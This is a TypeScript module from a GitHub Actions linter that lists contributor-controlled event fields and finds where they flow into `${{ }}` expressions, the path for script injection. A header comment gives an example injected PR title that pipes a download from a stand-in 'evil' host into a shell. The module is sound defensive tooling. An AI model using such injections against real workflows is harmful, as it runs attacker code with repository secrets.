// Event fields an outside contributor controls (titles, bodies, branch names, commit messages, author names). Pasted into
// a script through `${{ }}`, they become code: `"; curl evil | sh #` as a PR title runs with your secrets.
// From GitHub's "Security hardening: understanding the risk of script injections" and actionlint's list.
import type { Expr } from './ast';
import { parseExpression } from './parser';

/** Property paths of untrusted fields; `*` is any key or array index. */
const UNTRUSTED_PATHS = [
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.pull_requests.*.head.ref',
  'github.head_ref',
].map((p) => p.split('.'));

/** Functions whose result carries none of their arguments' text (a boolean or a hash). */
const OPAQUE_RESULT = new Set([
  'contains',
  'startswith',
  'endswith',
  'hashfiles',
  'success',
  'failure',
  'always',
  'cancelled',
]);

/** An untrusted field read by an expression, with offsets into the expression text. */
export interface UntrustedUse {
  /** The field as written, e.g. `github.event.pull_request.title` or `github.event.*.body`. */
  readonly text: string;
  /** The field's path with indexes as `*`, lowercased, e.g. `github.event.commits.*.message`. */
  readonly path: string;
  readonly start: number;
  readonly end: number;
}

/** Segment for `.*` and `[*]`: every property at once (an object filter). */
const ALL = '*';
/** Segment for `[0]` or `[expr]`: one element chosen by index or by a (trusted) expression. */
const ONE = '?';

/** `a.b[0].*` -> ['a', 'b', '?', '*']; undefined when the chain does not start at a name (e.g. a call's result). */
function pathOf(e: Expr): string[] | undefined {
  if (e.kind === 'name') return [e.name.toLowerCase()];
  if (e.kind !== 'access') return undefined;
  const object = pathOf(e.object);
  if (!object) return undefined;
  const { key } = e;
  if (key.kind === 'property') return [...object, key.name.toLowerCase()];
  if (key.kind === 'star') return [...object, ALL];
  if (key.index.kind === 'literal' && typeof key.index.value === 'string')
    return [...object, key.index.value.toLowerCase()];
  return [...object, ONE];
}

/**
 * Context property names are case-insensitive. A `*` in the list is any key (array elements); in the expression, an
 * object filter `*` takes every property (`github.event.*.body` reads every body), while an index picks one element,
 * which is only as untrusted as the elements (`commits[0].message`, not `github[inputs.key]`).
 */
function isUntrusted(path: readonly string[]): boolean {
  return UNTRUSTED_PATHS.some(
    (p) =>
      p.length === path.length && p.every((segment, i) => segment === '*' || path[i] === ALL || path[i] === segment),
  );
}

/** Untrusted fields whose text reaches the expression's result (not those only compared or tested with contains()). */
function flowing(e: Expr, source: string, out: UntrustedUse[]): void {
  switch (e.kind) {
    case 'access': {
      const path = pathOf(e);
      if (path) {
        if (isUntrusted(path))
          out.push({ text: source.slice(e.start, e.end), path: path.join('.'), start: e.start, end: e.end });
      } else {
        flowing(e.object, source, out); // a property of fromJSON(untrusted) is untrusted too
      }
      return;
    }
    case 'call':
      if (!OPAQUE_RESULT.has(e.name.toLowerCase())) for (const arg of e.args) flowing(arg, source, out);
      return;
    case 'logical':
      for (const operand of e.operands) flowing(operand, source, out); // `a || b` yields a or b itself
      return;
    case 'group':
      flowing(e.inner, source, out);
      return;
    case 'literal':
    case 'name':
    case 'compare':
    case 'not':
      return; // literals, bare names, comparisons and `!` yield no attacker text
  }
}

/** The untrusted fields whose text an expression (the text between `${{` and `}}`) puts into its result. */
export function untrustedUsesIn(expression: string): UntrustedUse[] {
  const { expr } = parseExpression(expression);
  const out: UntrustedUse[] = [];
  if (expr) flowing(expr, expression, out);
  return out;
}
